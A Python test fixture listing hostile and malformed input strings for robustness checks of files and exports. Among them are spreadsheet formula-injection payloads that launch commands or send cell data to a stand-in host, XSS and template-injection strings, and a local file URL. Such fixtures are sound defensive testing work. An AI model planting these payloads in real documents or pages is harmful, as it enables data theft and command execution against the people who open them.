"""Words that try to be more than words in some file: formulas, markup, signs that no font or format has."""

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(A1)",
    '=HYPERLINK("http://paliers.example/?q="&A1,"voir")',
    '=IMPORTXML(CONCAT("http://paliers.example/";A1);"//a")',
    "=program|' /C calc'!A1",
    "@\"cmd\"|' /C calc'!A1",
    "-2+3+program|' /C calc'!A1",
)
MARKUP = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "<r><t>texte riche</t></r>",
    "]]> & &amp; &lt;b&gt; <!-- --> <?xml?>",
    "{{ 7 * 7 }} {% raw %} ${7*7} %(limit)s %s {page}",
    '#panic("x") $x$ *gras* _italique_ `code` @ref <label> [x] \\ // https://paliers.example',
    "http://paliers.example/ mailto:a@paliers.example file:///etc/hosts",
    "_x0041_ &#65; \\u0041",
)
SIGNS = (
    "😀 漢字 ไทย ﷺ",
    "a\x00b\x01c\x0bd\x1fe\x7ff",
    "avant \u202eerèirra\u202c \u2066après\u2069 \u200f",
    "e\u0301 \u0301\u0302 \ufeff \ufffe \uffff",
    "\u00a0 \u202f \u2028 \u2029 \u00ad \u200b",
    "",
    " ",
    "x" * 5000,
)
WORDS = (*FORMULAS, *MARKUP, *SIGNS)
